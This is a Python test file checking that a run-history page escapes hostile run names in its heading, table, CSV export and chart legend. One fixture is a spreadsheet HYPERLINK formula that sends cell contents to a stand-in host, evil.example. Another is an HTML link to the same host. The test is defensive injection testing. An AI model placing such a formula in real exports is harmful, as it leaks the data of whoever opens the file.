"""A run named with markdown, HTML or a spreadsheet formula is shown as that text on the
Runs page: heading, table (and so its toolbar's CSV) and overlay legend."""

from __future__ import annotations

import json

import numpy as np
from apptest_helpers import open_page

from clr_core.engine.results import RangeTestResult
from clr_core.runs.reports import RangeTestReport
from clr_core.runs.store import RunStore
from clr_core.suggest.types import Suggestion

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'
LINK = '<a href="https://evil.example">x</a> **bold** :red[alarm] $x$'


def _saved(label: str) -> int:
    valley = Suggestion("valley", 2.5e-3, 1e-2, "test", "test", 1, 1e-2, 2.0)
    rt = RangeTestResult(np.array([1e-3, 1e-2, 1e-1]), np.array([2.3, 2.0, 2.5]),
                         np.array([2.3, 2.1, 2.2]), False, "completed",
                         suggestions={"valley": valley})
    report = RangeTestReport(rt, config={"dataset": "digits"}, headline="h")
    return RunStore().save_run("range_test", {"dataset": "digits"}, report.to_dict(),
                               label=label)


def test_hostile_run_names_are_text_everywhere_on_the_runs_page():
    a, b = _saved(FORMULA), _saved(LINK)
    at = open_page("pages/runs.py")
    table = at.dataframe[0].value
    shown = list(table["run"])  # the run label starts with the name its maker gave it
    assert any(r.startswith("'" + FORMULA) for r in shown)  # the toolbar's CSV exports this
    assert not any(r.startswith("=") for r in shown)
    at.multiselect(key="runs.open").set_value([b]).run()
    assert not at.exception, at.exception
    heading = at.subheader[0].value
    assert "\\*\\*bold\\*\\*" in heading and "\\:red\\[alarm\\]" in heading and "\\$x\\$" in heading
    assert "\\<a href" in heading
    at.multiselect(key="runs.open").set_value([a, b]).run()
    assert not at.exception, at.exception
    spec = json.dumps([json.loads(c.proto.spec)["data"] for c in at.get("plotly_chart")])
    assert "<a href" not in spec and "&lt;a href=" in spec
